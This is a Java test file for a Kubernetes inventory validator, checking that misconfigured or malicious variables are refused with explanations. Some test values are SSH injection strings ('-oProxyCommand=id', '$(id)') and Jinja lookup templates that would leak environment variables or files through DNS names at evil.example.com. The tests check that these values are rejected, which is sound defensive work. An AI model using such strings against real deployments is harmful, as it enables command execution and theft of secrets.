package io.urania.cluster.reader;

import static org.assertj.core.api.Assertions.assertThat;

import io.urania.artifacts.version.VersionTable;
import io.urania.cluster.spec.ApiEndpoint;
import io.urania.cluster.spec.Balancing;
import io.urania.cluster.spec.ClusterSpec;
import io.urania.cluster.spec.HostSpec;
import io.urania.cluster.value.Address;
import io.urania.inventory.problem.Problem;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RulesTest {
    @TempDir
    Path directory;

    /** A variable, the words that must stand in its one problem, and the words of the remedy. */
    @ParameterizedTest
    @CsvSource({"10.96.0.11, write 10.233.0.4", "10.233.0.3, choose another address of kube_service_addresses"})
    void aSecondDnsServiceHasAnAddressOfItsOwnAmongServices(String address, String remedy) {
        ClusterReading reading = files().withVariables("dns_mode: coredns_dual\nskydns_server_secondary: " + address);

        assertThat(reading.errors()).singleElement().satisfies(problem -> {
            assertThat(problem.what()).startsWith("skydns_server_secondary ");
            assertThat(problem.remedy()).startsWith(remedy);
        });
    }

    @ParameterizedTest
    @CsvSource({
        "nodelocaldns_second_health_port, 9254, the second node-local DNS cache's health",
        "nodelocaldns_secondary_prometheus_port, 9253, the second node-local DNS cache's metrics",
        "etcd_metrics_port, 2380, metrics of etcd",
        "kube_apiserver_port, 10250, the kubelet"
    })
    void noPortIsForTwoThings(String variable, int port, String purpose) {
        ClusterReading reading =
                files().withVariables("enable_nodelocaldns_secondary: true\n" + variable + ": " + port);

        assertThat(reading.spec()).isEmpty();
        assertThat(reading.errors())
                .isNotEmpty()
                .allSatisfy(problem -> assertThat(problem.what()).contains("port " + port + " is for", purpose));
    }

    @Test
    void metricsServerOnTheNodesNetworkLeavesTheKubeletItsPort() {
        ClusterReading reading =
                files().withVariables("metrics_server_enabled: true\nmetrics_server_host_network: true");

        assertThat(reading.errors())
                .singleElement()
                .satisfies(problem -> assertThat(problem.remedy()).startsWith("set metrics_server_container_port"));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "kube_version: latest                         | kube_version is 'latest'                     | newest",
                "kube_version: v1.12.0                        | kube_version is v1.12.0                      | choose a version",
                "kube_network_plugin: flanel                  | kube_network_plugin is 'flanel'              | did you mean 'flannel'?",
                "kube_network_plugin: calico                  | kube_network_plugin is calico                | write flannel",
                "container_manager: docker                    | container_manager is docker                  | write containerd",
                "container_manager: containrd                 | container_manager is 'containrd'             | did you mean 'containerd'?",
                "kube_proxy_mode: ipvss                       | kube_proxy_mode is 'ipvss'                   | did you mean 'ipvs'?",
                "flannel_backend_type: hostgw                 | flannel_backend_type is 'hostgw'             | did you mean 'host-gw'?",
                "kube_pods_subnet: 10.233.32.0/19             | overlap                                      | do not overlap",
                "kube_network_node_prefix: 16                 | kube_network_node_prefix is 16               | usually 24",
                "kube_network_node_prefix: 31                 | kube_network_node_prefix is 31               | usually 24",
                "kube_pods_subnet: 10.233.64.0/23             | has room for 2 nodes, but there are 5        | larger kube_pods_subnet",
                "kube_pods_subnet: 10.0.0.0/33                | kube_pods_subnet is '10.0.0.0/33'            | correct the value",
                "kube_pods_subnet: fd00::/64                  | kube_pods_subnet is fd00::/64                | IPv4",
                "kube_pods_subnet_ipv6: 10.1.0.0/16           | kube_pods_subnet_ipv6 is 10.1.0.0/16          | IPv6",
                "ipv4_stack: false                            | ipv6_stack is not true                       | set ipv6_stack: true",
                "ipv6_stack: true                             | no IPv6 address is known of pandore.example.com, | ip6: ADDRESS",
                "ip: \"fd75::{{ ansible_host.split('.')[-1] }}\" | and services have IPv4 addresses       | ipv4_stack: false",
                "kube_service_addresses: 10.0.0.0/8           | kube_service_addresses is 10.0.0.0/8         | 10.233.0.0/18",
                "kube_service_addresses: 10.42.253.0/24       | contains the addresses of pandore.example.com, hellenes.example.com, epimethee.example.com and 3 more | nothing else uses",
                "ip: 127.0.0.1                                | has the address 127.0.0.1, by which no other host reaches it | set ip of the host",
                "nodelocaldns_ip: 127.0.0.1                   | is an address that a host has already        | link-local",
                "nodelocaldns_ip: 10.42.253.40                | is an address that a host has already        | link-local",
                "kube_apiserver_ip: 10.233.0.2                | kube_apiserver_ip is 10.233.0.2              | write 10.233.0.1",
                "skydns_server: 10.96.0.10                    | skydns_server is 10.96.0.10                  | write 10.233.0.3",
                "nodelocaldns_ip: 10.233.0.10                 | is an address of the cluster's networks      | link-local",
                "upstream_dns_servers: [169.254.25.10]        | contains nodelocaldns_ip                     | outside the cluster",
                "upstream_dns_servers: [10.233.0.3]           | upstream_dns_servers contains skydns_server, 10.233.0.3 | outside the cluster",
                "upstream_dns_servers: [127.0.0.53]           | upstream_dns_servers contains 127.0.0.53     | asks on the hosts",
                "nameservers: [169.254.25.10, 10.0.0.53]      | nameservers contains nodelocaldns_ip, 169.254.25.10 | outside the cluster",
                "nameservers: [10.233.0.3]                    | nameservers contains skydns_server           | outside the cluster",
                "nameservers: [fritz.box]                     | nameservers is 'fritz.box'                   | correct the value",
                "searchdomains: [example org]                 | searchdomains is 'example org'               | correct the value",
                "dns_timeout: 60                              | dns_timeout is '60'                          | correct the value",
                "coredns_external_zones: [{zones: [a.example], nameservers: [10.233.0.3]}] | coredns_external_zones: a zone is to be answered by 10.233.0.3 | that know the zone",
                "nodelocaldns_external_zones: [{zones: [a.example], nameservers: ['169.254.25.10:53']}] | a zone is to be answered by 169.254.25.10:53 | that know the zone",
                "kube_config_dir: /opt/kubernetes             | kube_config_dir is /opt/kubernetes           | write /etc/kubernetes",
                "kube_manifest_dir: /opt/manifests            | kube_manifest_dir is /opt/manifests          | write /etc/kubernetes/manifests",
                "kube_external_ca_mode: true                  | kube_external_ca_mode is true                | ca.crt and ca.key",
                "kube_apiserver_insecure_port: 8080           | kube_apiserver_insecure_port is 8080         | write 0",
                "etcd_deployment_type: docker                 | etcd_deployment_type is docker               | write host or kubeadm",
                "etcd_deployment_type: kubeadmin              | etcd_deployment_type is 'kubeadmin'          | did you mean 'kubeadm'?",
                "~etcd_deployment_type: kubeadm\netcd_events_cluster_enabled: true~ | and kubeadm runs etcd | etcd_deployment_type: host",
                "etcd_memory_limit: lots                      | etcd_memory_limit is 'lots'                  | correct the value",
                "etcd_election_timeout: 1000                  | etcd_election_timeout is 1000                | 1250 or more",
                "kube_encrypt_token: short                    | kube_encrypt_token has 5 characters          | remove the variable",
                "kube_encryption_algorithm: kms               | kube_encryption_algorithm is kms             | secretbox",
                "~auto_renew_certificates: true\nauto_renew_certificates_systemd_calendar: \"*-2-31\"~ | is '*-2-31' | such as monthly",
                "~auto_renew_certificates: true\nauto_renew_certificates_systemd_calendar: yearly~ | is 'yearly' | such as monthly",
                "containerd_default_base_runtime_spec_patch: {process: 5} | has process, which is not a mapping | correct it",
                "containerd_base_runtime_specs: {a.json: {linux: {sysctl: []}}} | has linux.sysctl, which is not a mapping | correct it",
                "containerd_extra_args: 'disabled_plugins = [\"io.containerd.grpc.v1.cri\"]' | disables the CRI plugin | remove io.containerd.grpc.v1.cri",
                "metrics_server_nodeselector: {'a b': x}      | has 'a b: x', which no node can have         | kubectl get nodes",
                "metrics_server_extra_tolerations: [{key: a, effect: Never}] | has the effect 'Never'   | key: NAME",
                "dns_extra_tolerations: [{operator: Equal}]   | has no key                                  | key: NAME",
                "containerd_registry_auth: [{registry: a}]    | has an element without username              | best from a vault",
                "kube_oidc_auth: true                         | kube_oidc_url is not set                     | set kube_oidc_url",
                "kube_webhook_token_auth: true                | kube_webhook_token_auth_url is not set       | set kube_webhook_token_auth_url",
                "authorization_modes: [Node, RBAC, Webhook]   | kube_webhook_authorization is not true       | remove Webhook",
                "audit_webhook_server_extra_args: {x: y}      | audit_webhook_server_extra_args has x        | remove the line",
                "audit_webhook_server_extra_args: {tls-server-name: \"a\\n  x: 1\"} | has control characters in tls-server-name | correct",
                "eviction_hard: {memory.available: \"100Mi\\n\\n\"} | has control characters in memory.available | correct",
                "kube_apiserver_authentication_config_anonymous: {conditions: [{path: \"/a\\n/b\"}]} | has control characters in path | correct",
                "kube_apiserver_authorization_config_authorizers: [{type: ABAC, name: a}] | has the type ABAC | type: RBAC, name: rbac",
                "kubelet_secure_addresses: example.com        | kubelet_secure_addresses is 'example.com'    | correct the value",
                "kubelet_config_extra_args: {'a b': 1}        | has 'a b', which is not a field's name        | correct the name",
                "kubeadm_certificate_key: secret              | kubeadm_certificate_key has 6 characters     | remove the variable",
                "kube_apiserver_port: 70000                   | kube_apiserver_port is '70000'               | correct the value",
                "metrics_server_enabled: maybe                | metrics_server_enabled is 'maybe'            | correct the value",
                "containerd_config: 5                         | containerd_config is an integer              | indented below it",
                "authorization_modes: [Node, ABAC]            | authorization_modes is ABAC                  | Node",
                "ansible_connection: winrm                    | ansible_connection is 'winrm'                | correct the value",
                "ansible_port: '２２'                          | ansible_port is '２２'                       | correct the value",
                "ansible_ssh_private_key_file: /dev/zero      | does not point to a regular file: /dev/zero  | a private key",
                "ansible_ssh_private_key_file: ~root/key      | points to another user's home directory      | a private key",
                "ansible_ssh_private_key_file: /tmp/%u/key    | contains a token that only ssh can expand    | a private key",
                "ansible_ssh_common_args: -i /proc/self/fd/0  | -i /proc/self/fd/0' does not point to a regular file | a regular file",
                "ansible_ssh_extra_args: -oCertificateFile=/dev/zero | CertificateFile=/dev/zero' does not point | a regular file",
                "ansible_user: -oProxyCommand=id              | ansible_user is '-oProxyCommand=id'          | correct the value",
                "ansible_user: '$(id)'                        | ansible_user is '$(id)'                      | correct the value",
                "node_labels: {kubernetes.io/hostname: x}     | sets kubernetes.io/hostname                  | remove it",
                "node_labels: {'a b': x}                      | 'a b' is not a valid label key               | rename it",
                "node_labels: {rack: 'rack 1'}                | 'rack 1' is not a valid value of rack        | shorten or change",
                "node_taints: [dedicated:Never]               | 'dedicated:Never' is not a valid taint       | NoSchedule",
                "etcd_data_dir: /                             | etcd_data_dir is '/'                         | such as /var/lib/etcd",
                "etcd_data_dir: /var/lib/etcd/../..           | etcd_data_dir is '/var/lib/etcd/../..'       | write the resulting path",
                "etcd_data_dir: \"/srv/et\\0cd\"                | has invisible characters                     | type the path again",
                "containerd_storage_dir: /usr                 | containerd_storage_dir is '/usr'             | such as /var/lib/containerd",
                "containerd_state_dir: /run                   | containerd_state_dir is '/run'               | such as /run/containerd",
                "bin_dir: /etc                                | bin_dir is '/etc'                            | such as /usr/local/bin",
                "kube_cert_dir: /etc                          | kube_cert_dir is '/etc'                      | such as /etc/kubernetes/ssl",
                "kube_resolv_conf: resolv.conf                | kube_resolv_conf is 'resolv.conf'            | correct the value",
                "credentials_dir: /root                       | credentials_dir is '/root'                   | such as {{ inventory_dir }}/credentials",
                "artifacts_dir: artifacts                     | artifacts_dir is 'artifacts'                 | correct the value",
            })
    void oneWrongVariableIsRefusedWithAWayOut(String variable, String what, String remedy) {
        ClusterReading reading = files().withVariables(variable);

        assertThat(reading.spec()).isEmpty();
        assertThat(reading.errors()).isNotEmpty().allSatisfy(problem -> {
            assertThat(problem.position()).isNotNull();
            assertThat(problem.why()).isNotEmpty();
        });
        assertThat(reading.errors()).anySatisfy(problem -> {
            assertThat(problem.what()).contains(what);
            assertThat(problem.remedy()).contains(remedy);
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "-oProxyCommand=id",
                "a;id",
                "root@pi",
                "ssh://pi",
                "a b",
                "$(id)",
                "-",
                "?*x",
                "[a-z]",
                "~root",
                "pi#"
            })
    void whereSshConnectsToIsNothingElse(String address) {
        ClusterReading reading = files().withHosts(
                        "{ansible_host: 10.42.253.41,", "{ansible_host: '" + address + "', ip: 10.42.253.41,");

        assertThat(reading.spec()).isEmpty();
        assertThat(reading.errors()).singleElement().satisfies(problem -> {
            assertThat(problem.what()).isEqualTo("ansible_host is '" + address + "'");
            assertThat(problem.position()).isNotNull();
        });
    }

    /** What somebody else wrote must not carry a file or a variable of this machine away, to name servers least of all. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "ansible_host: \"{{ lookup('file', inventory_dir ~ '/hosts.yaml') | length }}.evil.example.com\"",
                "ansible_host: \"{{ lookup('env', 'PATH') | hash('sha1') }}.evil.example.com\"",
                "ansible_host: \"{{ 'a' if lookup('env', 'PATH') else 'b' }}.evil.example.com\"",
                "ansible_host: \"{{ lookup('password', inventory_dir ~ '/key chars=ascii_letters') }}.evil.example.com\"",
                "ansible_ssh_host: \"{{ lookup('env', 'PATH') | length }}.evil.example.com\"",
                "ip: \"10.1.1.{{ lookup('env', 'PATH') | length % 200 + 1 }}\"",
                "access_ip: \"10.1.1.{{ lookup('env', 'PATH') | length % 200 + 1 }}\"",
                "loadbalancer_apiserver: {address: \"10.1.1.{{ lookup('env', 'PATH') | length % 200 + 1 }}\"}",
                "apiserver_loadbalancer_domain_name: \"a{{ lookup('env', 'PATH') | length }}.example.com\"",
                "ansible_ssh_common_args: \"-J a{{ lookup('env', 'PATH') | length }}.evil.example.com\"",
                "ansible_ssh_extra_args: \"-o HostName=a{{ lookup('env', 'PATH') | length }}.evil.example.com\"",
            })
    void whatOthersAreToldIsNoSecret(String variable) {
        String hosts = RackFiles.HOSTS.replaceAll("ansible_host: [0-9.]+,?", "");
        String name = variable.substring(0, variable.indexOf(':'));
        boolean isAddress = name.equals("ansible_host") || name.equals("ansible_ssh_host") || name.equals("ip");
        List<String> asked = new ArrayList<>();

        files().write("hosts.yaml", isAddress ? hosts : RackFiles.HOSTS);
        files().write("group_vars/all.yaml", RackFiles.replacing(RackFiles.VARIABLES, variable));
        ClusterReading reading = new ClusterSpecReader(VersionTable.standard(), host -> {
                    asked.add(host);
                    return List.of();
                })
                .read(files().inventory());

        assertThat(asked).isEmpty();
        assertThat(reading.errors()).singleElement().satisfies(problem -> {
            assertThat(problem.what()).contains(name.split("\\.", 2)[0]).contains("is a secret");
            assertThat(String.valueOf(problem.position())).startsWith(directory.resolve("group_vars/all.yaml") + ":");
        });
    }

    @Test
    void aKeyInTheHomeDirectoryIsNamedAsEver() {
        assertThat(files().withVariables("""
                        ansible_user: "{{ lookup('env', 'USER') or 'root' }}"
                        ansible_ssh_private_key_file: "{{ lookup('env', 'HOME') }}/.ssh/id_ed25519"
                        ansible_ssh_common_args: "-i {{ lookup('env', 'HOME') }}/.ssh/id_ed25519"
                        """).errors()).isEmpty();
    }

    @Test
    void anAddressThatIsRefusedIsNotMissedToo() {
        ClusterReading reading = files().withHosts("{ansible_host: 10.42.253.46}", "{ansible_host: 'a b'}");

        assertThat(reading.errors())
                .singleElement()
                .satisfies(problem -> assertThat(problem.what()).isEqualTo("ansible_host is 'a b'"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"pi.example.com", "fe80::1%eth0", "my_pi", "192.168.1.11", "[fe80::1]", "größe"})
    void whereSshConnectsToMayBeANameOrAnAddress(String address) {
        assertThat(files().withHosts(
                                "{ansible_host: 10.42.253.41,", "{ansible_host: '" + address + "', ip: 10.42.253.41,")
                        .errors())
                .isEmpty();
    }

    @Test
    void aHostWhoseNameIsAnOptionIsRefusedWithItsLine() {
        ClusterReading reading = files().withHosts("hellenes.example.com", "-oProxyCommand=id");

        assertThat(reading.spec()).isEmpty();
        assertThat(reading.errors()).anySatisfy(problem -> {
            assertThat(problem.what()).isEqualTo("'-oProxyCommand=id' is not a valid node name");
            assertThat(problem.position()).isNotNull();
        });
    }

    @Test
    void problemsNameTheLineThatIsWrong() {
        ClusterReading reading = files().withVariables("kube_network_plugin: flanel");

        assertThat(reading.errors())
                .extracting(Problem::toString)
                .containsExactly(directory
                        + "/group_vars/all.yaml:5:1: kube_network_plugin is 'flanel'; it accepts one of flannel, cni;"
                        + " did you mean 'flannel'?");
    }

    @Test
    void noControlPlaneIsRefused() {
        ClusterReading reading =
                files().with(RackFiles.HOSTS.replace("kube-master", "kube-masters"), RackFiles.VARIABLES);

        assertThat(reading.spec()).isEmpty();
        assertThat(reading.errors()).anySatisfy(problem -> {
            assertThat(problem.what()).isEqualTo("there is no control plane host");
            assertThat(problem.remedy()).contains("kube-masters");
        });
    }

    @Test
    void evenNumberOfEtcdMembersIsRefused() {
        ClusterReading reading = files().withHosts(
                        "etcd: {hosts: {pandore.example.com: , hellenes.example.com: , epimethee.example.com: }}",
                        "etcd: {hosts: {pandore.example.com: , hellenes.example.com: }}");

        assertThat(reading.errors()).singleElement().satisfies(problem -> {
            assertThat(problem.what()).isEqualTo("etcd has 2 members");
            assertThat(problem.remedy()).isEqualTo("put 1 or 3 hosts into group etcd");
        });
    }

    @Test
    void missingEtcdIsRefused() {
        ClusterReading reading = files().withHosts(
                        "    etcd: {hosts: {pandore.example.com: , hellenes.example.com: , epimethee.example.com: }}\n",
                        "");

        assertThat(whats(reading.errors())).containsExactly("there is no etcd member");
    }

    @Test
    void mistypedHostInAGroupIsRefusedWithTheNameThatWasMeant() {
        ClusterReading reading =
                files().withHosts("etcd: {hosts: {pandore.example.com: ", "etcd: {hosts: {pandora.example.com: ");

        assertThat(reading.errors()).anySatisfy(problem -> {
            assertThat(problem.what()).isEqualTo("unknown host pandora.example.com in group etcd");
            assertThat(problem.remedy()).contains("did you mean pandore.example.com?");
        });
    }

    @Test
    void hostsNumberedThroughAreNotTakenForMistypedOnes() {
        ClusterReading reading =
                new RackFiles(directory, Map.of("node2", "10.0.0.2")).with("""
                all:
                  children:
                    kube_control_plane: {hosts: {node1: {ansible_host: 10.0.0.1}}}
                    etcd: {hosts: {node1: }}
                    kube_node: {hosts: {node1: , node2: }}
                """, "kube_proxy_mode: iptables\n");

        assertThat(reading.errors()).isEmpty();
    }

    @Test
    void hostsInARowOfLettersAreNotTakenForMistypedOnes() {
        ClusterReading reading = new RackFiles(
                        directory, Map.of("node-a", "10.0.0.1", "node-b", "10.0.0.2", "node-c", "10.0.0.3"))
                .with("""
                all:
                  children:
                    kube_control_plane: {hosts: {node-a: {etcd_member_name: etcd1}}}
                    etcd: {hosts: {node-a: }}
                    kube_node: {hosts: {node-b: , node-c: }}
                    k8s_cluster: {children: {kube_control_plane: , kube_node: }}
                """, "kube_proxy_mode: iptables\n");

        assertThat(reading.errors()).isEmpty();
        assertThat(whats(reading.problems())).noneMatch(what -> what.startsWith("unknown host"));
    }

    @Test
    void aHostThatMayBeMistypedAndResolvesIsAWarning() {
        ClusterReading reading = new RackFiles(directory, Map.of("node-a", "10.0.0.1", "node-b", "10.0.0.2"))
                .with("""
                all:
                  children:
                    kube_control_plane: {hosts: {node-a: {etcd_member_name: etcd1}}}
                    etcd: {hosts: {node-a: }}
                    kube_node: {hosts: {node-b: }}
                    k8s_cluster: {children: {kube_control_plane: , kube_node: }}
                """, "kube_proxy_mode: iptables\n");

        assertThat(reading.errors()).isEmpty();
        assertThat(whats(reading.problems())).contains("unknown host node-b in group kube_node");
    }

    @Test
    void aMappingInIniIsExplainedAsIniWritesIt() {
        RackFiles files = files();
        files.write("hosts.ini", """
                [all]
                pi1 ansible_host=10.0.0.1 node_labels="rack=r1,row=2"

                [kube_control_plane]
                pi1
                [etcd]
                pi1
                [kube_node]
                pi1

                [all:vars]
                kube_proxy_mode=iptables
                loadbalancer_apiserver=10.0.0.2
                """);
        ClusterReading reading = files.read("hosts.ini");

        assertThat(reading.errors())
                .filteredOn(problem -> problem.what().equals("node_labels is a text")
                        || problem.what().startsWith("loadbalancer_apiserver is"))
                .hasSize(2)
                .allSatisfy(problem -> assertThat(problem.remedy())
                        .startsWith("write '{\"name\": \"text\"}', with the outer quotes on a host's line"));
    }

    @Test
    void whatManyVariablesNeedIsToldOnceWithOneOfThem() {
        ClusterReading reading = files().withVariables("""
                domains: "{{ vault_domains }}"
                mail_domain: "{{ domains.mail }}"
                cluster_name: "k8s.{{ domains.lab }}"
                kube_pods_subnet: "{{ domains.pods }}"
                """);

        assertThat(reading.errors()).singleElement().satisfies(problem -> {
            assertThat(problem.what()).startsWith("'vault_domains' is undefined");
            assertThat(problem.why()).containsPattern("; needed for (cluster_name|kube_pods_subnet)$");
        });
    }

    @Test
    void twoHostsWithOneAddressAreRefused() {
        ClusterReading reading = files().withHosts("10.42.253.46", "10.42.253.43");

        assertThat(reading.errors())
                .singleElement()
                .satisfies(problem -> assertThat(problem.what())
                        .isEqualTo("erato.example.com has the address 10.42.253.43, and so does pyrrha.example.com"));
    }

    @Test
    void hostsWithoutAddressAreToldInOneProblem() {
        ClusterReading reading =
                files().with(RackFiles.HOSTS.replaceAll("ansible_host: [0-9.]+,? ?", ""), RackFiles.VARIABLES);

        assertThat(reading.errors())
                .singleElement()
                .satisfies(problem -> assertThat(problem.what())
                        .startsWith("no address for pandore.example.com, hellenes.example.com"));
    }

    @Test
    void keysOfTheBalancerPrintedFlushLeftAreRecognised() {
        ClusterReading reading = files().withVariables("loadbalancer_apiserver:\naddress: 10.42.253.52\nport: 6443");

        assertThat(reading.errors()).singleElement().satisfies(problem -> {
            assertThat(problem.what())
                    .isEqualTo("loadbalancer_apiserver has no address, and address and port are not indented");
            assertThat(problem.remedy()).startsWith("put two spaces in front of 'address:' and 'port:'");
            assertThat(problem.position()).hasToString(directory + "/group_vars/all.yaml:5:1");
        });
    }

    @Test
    void severalControlPlaneHostsWithoutBalancerGiveEachNodeItsOwn() {
        ClusterSpec spec = files().withoutBalancer("").spec().orElseThrow();

        assertThat(spec.endpoint())
                .isEqualTo(new ApiEndpoint(
                        "lb-apiserver.kubernetes.local", new Address("127.0.0.1"), 6443, new Balancing.Local(8081)));
        assertThat(spec.localBalancers())
                .extracting(HostSpec::name)
                .containsExactly("pyrrha.example.com", "erato.example.com");
        assertThat(spec.apiFromOutside()).hasToString("10.42.253.40:6443");
    }

    @Test
    void theKubeconfigNamesTheHostByItsOtherAddressOnRequest() {
        String ip = "ip: \"10.9.9.{{ ansible_host.split('.')[-1] }}\"\n";

        assertThat(files().withoutBalancer(ip).spec().orElseThrow().apiFromOutside())
                .hasToString("10.9.9.40:6443");
        assertThat(files().withoutBalancer(ip + "kubeconfig_localhost_ansible_host: true\n")
                        .spec()
                        .orElseThrow()
                        .apiFromOutside())
                .hasToString("10.42.253.40:6443");
    }

    @Test
    void controlPlaneHostsHaveABalancerTooWhereItHasAPortOfItsOwn() {
        ClusterSpec spec = files().withoutBalancer(
                        "loadbalancer_apiserver_port: 7443\nloadbalancer_apiserver_healthcheck_port: 0\n")
                .spec()
                .orElseThrow();

        assertThat(spec.endpoint().port()).isEqualTo(7443);
        assertThat(spec.endpoint().balancing()).isEqualTo(new Balancing.Local(0));
        assertThat(spec.localBalancers()).hasSize(5);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "loadbalancer_apiserver_localhost: false | loadbalancer_apiserver_localhost is false, and no other balancer is set",
                "loadbalancer_apiserver_healthcheck_port: 6443 | loadbalancer_apiserver_healthcheck_port is 6443, and the balancer on every node listens there",
            })
    void whatWouldLeaveNodesWithoutBalancerIsRefusedWithItsLine(String line, String what) {
        ClusterReading reading = files().withoutBalancer(line);

        assertThat(whats(reading.errors())).containsExactly(what);
        assertThat(reading.errors().getFirst().position()).hasToString(directory + "/group_vars/all.yaml:2:1");
    }

    @Test
    void severalBalancersNeedAnAddress() {
        ClusterReading reading = files().with(
                        RackFiles.HOSTS.replace(
                                "{balance.example.com: }", "{balance.example.com: , erato.example.com: }"),
                        "kube_proxy_mode: iptables\n");

        assertThat(whats(reading.errors()))
                .containsExactly("group loadbalancer has 2 hosts, and loadbalancer_apiserver has no address");
    }

    @ParameterizedTest
    @ValueSource(strings = {"kube_vip_address: 10.42.253.60", "kube_vip_controlplane_enabled: true"})
    void theAddressOfKubeVipIsNobodys(String line) {
        ClusterReading reading = files().withoutBalancer(
                        "kube_vip_enabled: true\nloadbalancer_apiserver: {address: 10.42.253.60}\n" + line);

        assertThat(whats(reading.errors()))
                .containsExactly("kube_vip_enabled is true, and Urania does not install kube-vip");
        assertThat(reading.errors().getFirst().why()).contains("10.42.253.60");
    }

    @Test
    void aBalancerThatIsAControlPlaneHostIsNone() {
        ClusterReading reading = files().withoutBalancer("loadbalancer_apiserver: {address: 10.42.253.40}\n");

        assertThat(reading.spec()).isPresent();
        assertThat(whats(reading.warnings()))
                .contains("loadbalancer_apiserver.address, 10.42.253.40, is pandore.example.com, a control plane host");
    }

    @Test
    void addressOfNoBalancerIsAWarningOnly() {
        ClusterReading reading = files().withVariables("loadbalancer_apiserver: {address: 10.42.253.60, port: 6443}");

        assertThat(reading.spec()).isPresent();
        assertThat(reading.warnings())
                .singleElement()
                .satisfies(problem ->
                        assertThat(problem.what()).contains("10.42.253.60, which no host of group loadbalancer has"));
    }

    @Test
    void balancerOnAControlPlaneHostNeedsAnotherPort() {
        ClusterReading reading = files().withHosts(
                        "loadbalancer: {hosts: {balance", "loadbalancer: {hosts: {pandore.example.com: , balance");

        assertThat(whats(reading.errors()))
                .containsExactly("pandore.example.com is a balancer and a control plane host, both on port 6443");
    }

    @Test
    void hostsAreReachedThroughTheBastion() {
        ClusterReading reading = files().with(
                        RackFiles.HOSTS
                                + "    bastion: {hosts: {jump: {ansible_host: 203.0.113.9, ansible_user: guard, ansible_port: 2222}}}\n",
                        RackFiles.VARIABLES);

        assertThat(reading.warnings()).isEmpty();
        assertThat(reading.spec().orElseThrow().hosts())
                .allSatisfy(
                        host -> assertThat(host.target().options()).containsExactly("-J", "guard@203.0.113.9:2222"));
    }

    @Test
    void aHostThatSaysItselfHowItIsReachedDoesNotGoThroughTheBastion() {
        ClusterReading reading = files().with(
                        RackFiles.HOSTS + "    bastion: {hosts: {jump: {ansible_host: 203.0.113.9}}}\n",
                        RackFiles.VARIABLES + "ansible_ssh_common_args: '-J other'\n");

        assertThat(reading.spec()
                        .orElseThrow()
                        .firstControlPlane()
                        .host()
                        .target()
                        .options())
                .containsExactly("-J", "other");
    }

    @Test
    void hostsInAGroupOfTheirOwnAreNobodysBusiness() {
        assertThat(files().with(RackFiles.HOSTS + "    bmc: {hosts: {idrac-1: , idrac-2: }}\n", RackFiles.VARIABLES)
                        .warnings())
                .isEmpty();
        assertThat(whats(files().with(
                                RackFiles.HOSTS.replace(
                                        "    balance.example.com: {",
                                        "    spare: {ansible_host: 10.42.253.9}\n    balance.example.com: {"),
                                RackFiles.VARIABLES)
                        .warnings()))
                .containsExactly("spare has no role");
    }

    @Test
    void theResolvConfOfKubespraysSamplesIsNoWish() {
        ClusterReading reading = files().withVariables("resolvconf_mode: host_resolvconf");

        assertThat(reading.spec()).isPresent();
        assertThat(reading.warnings()).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "resolvconf_mode: host_resolvconf",
                "resolvconf_mode: docker_dns",
                "ndots: 2",
                "dns_timeout: 2",
                "searchdomains: []",
                "resolvconf_mode: none\\nnameservers: [169.254.25.10]\\nsearchdomains: [example.org]",
            })
    void whatAsksForNothingChangesNoHost(String variables) {
        ClusterReading reading = files().withVariables(variables.replace("\\n", "\n"));

        assertThat(reading.spec().orElseThrow().resolvers()).isEmpty();
        assertThat(reading.warnings()).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "nameservers: [10.0.0.1, 10.0.0.2, 10.0.0.3]     | nameservers has 3 servers, and nodes ask the cluster's DNS before them",
                "searchdomains: [a.example, b.example, c.example, d.example, e.example, f.example, g.example] | searchdomains: a host would have 7 search domains of 69 characters",
                "nameservers: [10.0.0.1]\\nkube_resolv_conf: /etc/resolv.conf | kube_resolv_conf is /etc/resolv.conf, where nodes have the cluster's DNS first",
            })
    void whatWouldNotBeHeardIsTold(String variables, String warning) {
        ClusterReading reading = files().withVariables(variables.replace("\\n", "\n"));

        assertThat(reading.spec()).isPresent();
        assertThat(whats(reading.warnings())).contains(warning);
        assertThat(reading.warnings())
                .allSatisfy(problem -> assertThat(problem.position()).isNotNull());
    }

    @Test
    void onlyNodesAskTheCluster() {
        ClusterSpec spec =
                files().withVariables("nameservers: [10.0.0.1]").spec().orElseThrow();

        assertThat(spec.hosts())
                .allSatisfy(host -> assertThat(spec.resolver(host).orElseThrow().asksCluster())
                        .isEqualTo(spec.node(host.name()).isPresent()));
        assertThat(spec.balancers()).isNotEmpty();
    }

    @Test
    void whyNodesDoNotAskTheClusterIsTold() {
        ClusterReading reading =
                files().withVariables("resolvconf_mode: host_resolvconf\nsearchdomains: [example.org]");

        assertThat(whats(reading.notes())).contains("resolvconf_mode: nodes do not ask the cluster's DNS");
        assertThat(reading.spec().orElseThrow().resolvers())
                .hasSize(reading.spec().orElseThrow().hosts().size())
                .allSatisfy((_, resolver) -> assertThat(resolver.asksCluster()).isFalse());
    }

    @Test
    void aTimeZoneThatNobodyKnowsIsTold() {
        ClusterReading reading = files().withVariables("ntp_enabled: true\nntp_timezone: Europe/Berlon");

        assertThat(reading.spec()).isPresent();
        assertThat(reading.warnings())
                .singleElement()
                .satisfies(problem -> assertThat(problem.remedy()).isEqualTo("did you mean 'Europe/Berlin'?"));
    }

    @Test
    void aSecondCacheWithoutAFirstOneIsTold() {
        assertThat(whats(files().withVariables("enable_nodelocaldns: false\nenable_nodelocaldns_secondary: true")
                        .warnings()))
                .containsExactly("enable_nodelocaldns_secondary has no effect");
    }

    @Test
    void aPluginThatIsRefusedIsNotCalledMissing() {
        assertThat(whats(files().withVariables("kube_network_plugin: weave").notes()))
                .noneMatch(what -> what.contains("is not set"));
    }

    @Test
    void podsNeedAddresses() {
        ClusterReading reading = files().withVariables("kube_network_node_prefix: 26");

        assertThat(whats(reading.errors()))
                .singleElement()
                .satisfies(
                        what -> assertThat(what)
                                .startsWith(
